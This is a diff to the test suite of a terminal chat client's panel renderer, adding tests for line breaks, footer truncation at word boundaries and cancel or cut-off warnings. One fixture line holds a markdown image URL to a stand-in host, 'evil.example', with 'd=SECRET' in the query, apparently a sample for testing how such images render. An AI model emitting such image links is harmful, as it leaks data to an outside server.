@@ -114,6 +114,8 @@ CASES = {
     "image": "para\n\n![alt text](https://evil.example/p.png?d=SECRET)\n\nafter\n",
     "quote_hr": "> quoted\n> more\n\n---\n# Heading\ntext\n",
     "no_trailing_newline": "para one\n\npara **two",
+    "line_breaks": "first\nsecond\nthird\n\n- item\n  next line\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nend\n",
+    "tall_para_of_lines": "Lines\n" + "".join(f"line {j} " + "w " * (j % 30) + "\n" for j in range(120)) + "\nx\n",
     "para_then_tall_para": "short para\n\n" + "Long " + " ".join(f"L{j}" for j in range(300)) + "\n\nx\n",
 }
 
@@ -452,3 +454,70 @@ def test_ctrl_c_while_waiting_for_a_frame_being_painted_leaves_the_view_usable()
         assert out.getvalue().endswith("\x1b[0m\x1b[?25h")
     finally:
         signal.signal(signal.SIGINT, previous)
+
+
+def test_single_line_breaks_in_a_reply_are_kept() -> None:
+    data, _ = stream(chunkings("first\nsecond\nthird\n")["1char"])
+    assert [line.strip("│ ") for line in body(transcript(data))] == ["first", "second", "third"]
+
+
+def test_footer_too_wide_for_the_border_is_shortened_at_a_word_boundary() -> None:
+    out = io.StringIO()
+    view = PanelView(out, io.StringIO(), size=lambda: (40, ROWS), label="openai:gpt", threaded=False,
+                     clock=ticking_clock(), color_system=None)
+    view.feed(TextDelta("hi"))
+    view.feed(Usage(1234, 5678))
+    view.feed(Finish("content_filter", raw="SAFETY_BLOCK_REASON"))
+    view.close()
+    foot = transcript(out.getvalue(), cols=40)[-1]
+    assert len(foot) == 39 and foot.endswith("╯"), foot
+    label = foot[3:].rstrip("─╯ ")
+    assert label.endswith(" …"), foot
+    full = "content_filter (SAFETY_BLOCK_REASON) · 1,234 in / 5,678 out"
+    kept = label[:-2]
+    assert full.startswith(kept) and full[len(kept)] == " ", f"cut mid-word: {foot!r}"
+
+
+def test_fit_words_never_cuts_a_word() -> None:
+    from chatcli.render.panel import fit_words
+
+    assert fit_words("stop · 12 in / 40 out · first token 0.50 s", 30) == "stop · 12 in / 40 out …"
+    assert fit_words("interrupted · 12 in / 40 out", 11) == "interrupted"
+    assert fit_words("reply cut at the limit", 12) == "reply cut …"
+    assert fit_words("short", 10) == "short"
+
+
+def test_cancelled_or_failed_before_any_text_draws_no_panel() -> None:
+    for finish in (Finish("interrupted"), Finish("error", detail="boom")):
+        out, err = io.StringIO(), io.StringIO()
+        view = PanelView(out, err, size=lambda: (COLS, ROWS), label="fake:model", threaded=False,
+                         clock=ticking_clock(), color_system=None)
+        view.feed(finish)
+        view.close()
+        assert "╭" not in out.getvalue() and "╰" not in out.getvalue(), out.getvalue()
+        assert "partial reply kept" not in err.getvalue(), err.getvalue()
+    assert "cancelled before any reply arrived" in describe_warning(Finish("interrupted"), False)
+    assert describe_warning(Finish("error", detail="boom"), False) == "the stream failed: boom"
+
+
+def describe_warning(finish: Finish, has_text: bool) -> str:
+    from chatcli.render.footer import describe_finish
+
+    return describe_finish(finish, has_text=has_text)[1] or ""
+
+
+def test_warnings_in_ask_name_what_works_from_the_shell() -> None:
+    from chatcli.render.footer import describe_finish
+
+    for reason in ("length", "pause_turn"):
+        chat = describe_finish(Finish(reason), where="chat")[1] or ""
+        ask = describe_finish(Finish(reason), where="ask")[1] or ""
+        assert "/continue resumes" in chat and "chatcli -c" not in chat
+        assert "`chatcli -c`, then /continue" in ask, ask
+    err = io.StringIO()
+    view = PanelView(io.StringIO(), err, size=lambda: (COLS, ROWS), threaded=False, clock=ticking_clock(),
+                     color_system=None, where="ask")
+    view.feed(TextDelta("cut"))
+    view.feed(Finish("length"))
+    view.close()
+    assert "`chatcli -c`, then /continue" in err.getvalue()
